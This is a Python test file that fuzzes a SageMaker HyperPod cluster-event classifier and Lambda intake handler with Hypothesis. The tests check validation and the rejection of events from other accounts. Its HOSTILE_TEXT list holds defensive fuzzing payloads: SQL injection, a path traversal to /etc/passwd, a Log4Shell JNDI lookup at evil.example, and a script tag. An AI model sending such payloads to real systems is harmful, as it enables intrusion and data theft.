import copy
import importlib
import json
import re
import sys
import types

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from hyperpod_dhc.deephealth.domain.events import (
    CLUSTER_ARN_PATTERN,
    CLUSTER_EVENT,
    DETAIL_TYPES,
    INSTANCE_ID_PATTERN,
    LOGICAL_ID_PATTERN,
    MAX_EVENT_ID,
    NAME_PATTERN,
    NODE_HEALTH_EVENT,
    STATE_CHANGE_EVENT,
    ClusterSignal,
    Ignored,
    MalformedEvent,
    NodeSignal,
    classify,
    foreign_origin,
)
from tests.conftest import load_event


def _classify(name):
    e = load_event(name)
    return classify(e["detail-type"], e["detail"], e["id"])


def test_instance_event_names_the_node():
    signal = _classify("cluster_event_instance_provisioned.json")
    assert isinstance(signal, NodeSignal)
    assert signal.cluster == "sample-cluster" and signal.group == "p5-workers"
    assert signal.instance_id == "i-0391f86fa0fe0d465"
    assert signal.logical_id == "df268d19-f035-4f28-9b80-b956b92ae21e"
    assert signal.event_id == "5f0c1e6a-0b59-4e0a-9e44-1f2b3c4d5e6f"


def test_health_event_flags_unhealthy():
    signal = _classify("node_health_unhealthy.json")
    assert isinstance(signal, NodeSignal) and signal.unhealthy and "NvidiaErrorTerminate" in signal.reason


def test_state_change_deleting_closes_and_in_service_reconciles():
    assert _classify("cluster_state_change_deleting.json") == ClusterSignal(
        cluster="sample-cluster",
        event_id="3d4e5f60-cccc-4ddd-8eee-3456789abcde",
        reason="cluster Deleting",
        closing=True,
    )
    assert not _classify("cluster_state_change_in_service.json").closing


def test_instance_group_event_reconciles_the_cluster():
    assert isinstance(_classify("cluster_event_instance_group.json"), ClusterSignal)


def test_unknown_detail_type_is_ignored():
    assert isinstance(classify("AWS API Call via CloudTrail", {}, "x"), Ignored)


@pytest.mark.parametrize(
    "detail",
    [
        {},
        {"EventDetails": "nope"},
        {"EventDetails": {"ClusterName": "c"}},  # no ResourceType
        {"EventDetails": {"ClusterName": "c", "ResourceType": "Instance"}},  # no node identity
        {"EventDetails": {"ClusterName": "", "ResourceType": "Instance", "InstanceId": "i-1"}},
        {"EventDetails": {"ClusterName": "c", "ResourceType": "Instance", "InstanceId": "i-" + "0" * 100}},
    ],
)
def test_malformed_cluster_events_raise_with_a_reason(detail):
    with pytest.raises(MalformedEvent) as err:
        classify(CLUSTER_EVENT, detail, "id")
    assert str(err.value)


@given(
    detail_type=st.sampled_from(DETAIL_TYPES),
    detail=st.recursive(
        st.none() | st.booleans() | st.integers() | st.text(max_size=20),
        lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=12), inner, max_size=4),
        max_leaves=12,
    ),
)
def test_classify_never_crashes_on_arbitrary_detail(detail_type, detail):
    # Property: any input either classifies or raises MalformedEvent; nothing else escapes.
    try:
        result = classify(detail_type, detail, "id")
    except MalformedEvent:
        return
    assert isinstance(result, NodeSignal | ClusterSignal | Ignored)


# ---------------------------------------------------------------- properties: classification and origin

JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False) | st.text(max_size=30),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=15), inner, max_size=5),
    max_leaves=15,
)
HOSTILE_TEXT = st.sampled_from(
    [
        "",
        "demo",
        "'; DROP TABLE nodes;--",
        "../../etc/passwd",
        "${jndi:ldap://evil.example/a}",
        "<script>alert(1)</script>",
        "d\u00e9mo",
        "demo\u0000\n",
        "i-0123456789abcdef0",
        "i-XYZ",
        "df268d19-f035-4f28-9b80-b956b92ae21e",
        "x" * 300,
    ]
) | st.text(max_size=40)
FIELD = HOSTILE_TEXT | JSON  # a plausible value, a hostile one, or any JSON value at all


OWN_ACCOUNT, OWN_REGION = "123456789012", "us-east-1"
OWN_ARN = f"arn:aws:sagemaker:{OWN_REGION}:{OWN_ACCOUNT}:cluster/abcdef123456"
DELETE = object()
VALID_DETAILS = {
    CLUSTER_EVENT: [
        {
            "EventDetails": {
                "EventId": "a307fae0-6937-40f9-af2f-16eb873d340a",
                "ClusterArn": OWN_ARN,
                "ClusterName": "demo",
                "InstanceGroupName": "gpu",
                "InstanceId": "i-0391f86fa0fe0d465",
                "ResourceType": "Instance",
                "Description": "Instance lifecycle script execution has Succeeded",
                "EventDetails": {
                    "EventMetadata": {"Instance": {"NodeLogicalId": "df268d19-f035-4f28-9b80-b956b92ae21e"}}
                },
            }
        },
        {"EventDetails": {"ClusterArn": OWN_ARN, "ClusterName": "demo", "ResourceType": "InstanceGroup"}},
    ],
    NODE_HEALTH_EVENT: [
        {
            "ClusterName": "demo",
            "ClusterArn": OWN_ARN,
            "InstanceId": "i-0391f86fa0fe0d465",
            "HealthSummary": {"HealthStatus": "Unhealthy", "HealthStatusReason": "NvidiaErrorTerminate"},
        }
    ],
    STATE_CHANGE_EVENT: [{"ClusterName": "demo", "ClusterArn": OWN_ARN, "ClusterStatus": "Deleting"}],
}


def _paths(value, prefix=()):
    """Every key path of a nested dict (the places a mutation can hit)."""
    if isinstance(value, dict):
        for key, inner in value.items():
            yield (*prefix, key)
            yield from _paths(inner, (*prefix, key))


def _mutate(base, mutations):
    value = copy.deepcopy(base)
    for path, replacement in mutations:
        parent = value
        for key in path[:-1]:
            parent = parent.get(key) if isinstance(parent, dict) else None
        if not isinstance(parent, dict):
            continue  # an earlier mutation replaced the parent
        if replacement is DELETE:
            parent.pop(path[-1], None)
        else:
            parent[path[-1]] = replacement
    return value


def near(base):
    """`base`, with up to three fields replaced by a hostile or arbitrary value or removed.

    Near-valid input reaches the deep validation (and the handler's later checks); purely random input
    would almost always fail at the first field.
    """
    paths = sorted(set(_paths(base)))
    mutation = st.tuples(st.sampled_from(paths), st.just(DELETE) | FIELD)
    return st.lists(mutation, max_size=3).map(lambda ms: _mutate(base, ms))


def detail_of(detail_type):
    return st.sampled_from(VALID_DETAILS[detail_type]).flatmap(near)


TYPED_DETAIL = st.sampled_from(DETAIL_TYPES).flatmap(lambda t: st.tuples(st.just(t), detail_of(t)))
ANY_DETAIL = st.sampled_from(DETAIL_TYPES).flatmap(detail_of) | JSON
ANY_DETAIL_TYPE = st.sampled_from(DETAIL_TYPES) | st.text(max_size=60)


@settings(max_examples=500)
@given(
    typed=TYPED_DETAIL | st.tuples(ANY_DETAIL_TYPE, ANY_DETAIL),
    event_id=st.just("a307fae0-6937-40f9-af2f-16eb873d340a") | st.text(max_size=200),
)
def test_classify_returns_a_signal_or_raises_malformed_and_nothing_else(typed, event_id):
    detail_type, detail = typed
    try:
        result = classify(detail_type, detail, event_id)
    except MalformedEvent as err:
        assert str(err)  # always says why
        return
    assert isinstance(result, NodeSignal | ClusterSignal | Ignored)
    if isinstance(result, Ignored):
        assert result.reason and len(result.reason) <= 200
        return
    # Whatever reaches the controller holds to the SageMaker API's own patterns: no injection goes further.
    assert re.fullmatch(NAME_PATTERN, result.cluster)
    assert 0 < len(result.event_id) <= MAX_EVENT_ID
    assert len(result.reason) <= 400
    assert result.cluster_arn is None or re.fullmatch(CLUSTER_ARN_PATTERN, result.cluster_arn)
    if isinstance(result, NodeSignal):
        assert result.instance_id or result.logical_id
        assert result.instance_id is None or re.fullmatch(INSTANCE_ID_PATTERN, result.instance_id)
        assert result.logical_id is None or re.fullmatch(LOGICAL_ID_PATTERN, result.logical_id)
        assert result.group is None or re.fullmatch(NAME_PATTERN, result.group)


ARNS = st.lists(
    st.sampled_from(
        [
            OWN_ARN,
            "arn:aws:sagemaker:eu-west-1:123456789012:cluster/abcdef123456",
            "arn:aws:sagemaker:us-east-1:999999999999:cluster/abcdef123456",
            "arn:aws:iam::123456789012:role/x",
            "not an arn",
        ]
    )
    | st.text(max_size=80)
    | st.none(),
    max_size=4,
)


@given(
    account=st.sampled_from([OWN_ACCOUNT, "999999999999", ""]) | st.text(max_size=20),
    region=st.sampled_from([OWN_REGION, "eu-west-1", ""]) | st.text(max_size=20),
    arns=ARNS,
)
def test_foreign_origin_drops_every_other_account_and_region(account, region, arns):
    reason = foreign_origin(account, region, arns, OWN_ACCOUNT, OWN_REGION)
    if account != OWN_ACCOUNT or region != OWN_REGION:
        assert reason, "an envelope of another account or region is foreign"
    named = [a.split(":", 5) for a in arns if isinstance(a, str) and a.startswith("arn:") and a.count(":") >= 5]
    if any((p[3] and p[3] != OWN_REGION) or (p[4] and p[4] != OWN_ACCOUNT) for p in named):
        assert reason, "an ARN of another account or region is foreign"
    if reason is None:
        assert account == OWN_ACCOUNT and region == OWN_REGION
    else:
        assert isinstance(reason, str) and len(reason) <= 300


def test_foreign_origin_accepts_our_own_events():
    arn = f"arn:aws:sagemaker:{OWN_REGION}:{OWN_ACCOUNT}:cluster/abcdef123456"
    assert (
        foreign_origin(
            OWN_ACCOUNT, OWN_REGION, [arn, None, "arn:aws:iam::123456789012:role/x"], OWN_ACCOUNT, OWN_REGION
        )
        is None
    )


# ---------------------------------------------------------------- property: the Intake handler never raises


class _StubHandleSignal:
    """Stands in for the Intake use case: this property is about input handling, not about HyperPod."""

    def __init__(self):
        self.signals = []

    def __call__(self, ctx, signal):
        self.signals.append(signal)
        return f"ignored: {signal.reason}" if isinstance(signal, Ignored) else "handled"


@pytest.fixture(scope="module")
def intake():
    from hyperpod_dhc.deephealth import settings

    env = {
        "TABLE_NAME": "nodes",
        "CONFIG_PARAMETER_NAME": "/hyperpod-dhc/config",
        "ROUND_STATE_MACHINE_ARN": f"arn:aws:states:{OWN_REGION}:{OWN_ACCOUNT}:stateMachine:HyperPodDhc-check-round",
    }
    with pytest.MonkeyPatch.context() as mp:
        for name, value in env.items():
            mp.setenv(name, value)
        settings.load.cache_clear()
        sys.modules.pop("hyperpod_dhc.deephealth.handlers.intake", None)
        module = importlib.import_module("hyperpod_dhc.deephealth.handlers.intake")
        mp.setattr(module, "handle_signal", _StubHandleSignal())
        yield module
    sys.modules.pop("hyperpod_dhc.deephealth.handlers.intake", None)  # the next importer gets a fresh cold start
    settings.load.cache_clear()


CONTEXT = types.SimpleNamespace(
    function_name="HyperPodDhc-Intake",
    function_version="$LATEST",
    invoked_function_arn=f"arn:aws:lambda:{OWN_REGION}:{OWN_ACCOUNT}:function:HyperPodDhc-Intake",
    memory_limit_in_mb=512,
    aws_request_id="00000000-0000-4000-8000-000000000000",
    log_group_name="/aws/lambda/HyperPodDhc-Intake",
    log_stream_name="stream",
)
VALID_EVENT = {
    "version": "0",
    "id": "00000000-0000-4000-8000-000000000001",
    "source": "aws.sagemaker",
    "account": OWN_ACCOUNT,
    "time": "2026-06-01T17:20:25Z",
    "region": OWN_REGION,
    "resources": [OWN_ARN],
}
EVENT = st.sampled_from(DETAIL_TYPES).flatmap(
    lambda t: st.sampled_from(VALID_DETAILS[t]).flatmap(lambda d: near({**VALID_EVENT, "detail-type": t, "detail": d}))
)


@pytest.mark.filterwarnings("ignore:No application metrics to publish")
@settings(max_examples=500, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(event=EVENT | JSON)
def test_intake_never_raises_for_any_json_value(intake, event):
    before = len(intake.handle_signal.signals)
    result = intake.lambda_handler(json.loads(json.dumps(event)), CONTEXT)  # as the Lambda runtime delivers it
    outcome = result["outcome"]
    assert outcome in ("malformed", "foreign", "handled") or outcome.startswith("ignored"), result
    reached = intake.handle_signal.signals[before:]
    assert len(reached) == (0 if outcome in ("malformed", "foreign") else 1)
    if outcome in ("malformed", "foreign"):
        assert result["reason"] and len(result["reason"]) <= 1000
    else:
        assert event["account"] == OWN_ACCOUNT and event["region"] == OWN_REGION, "only our own events reach it"


def test_an_unknown_detail_type_of_escaped_characters_keeps_its_reason_short():
    # repr turns "\U0002ebe1" into ten characters: the reason is clipped after quoting, not before.
    detail_type = "0" * 27 + "\x1f" * 14 + "\U0002ebe1" * 59
    result = classify(detail_type, {}, "a307fae0-6937-40f9-af2f-16eb873d340a")
    assert isinstance(result, Ignored)
    assert len(result.reason) <= 200
    assert result.reason.startswith("unknown detail-type '000")
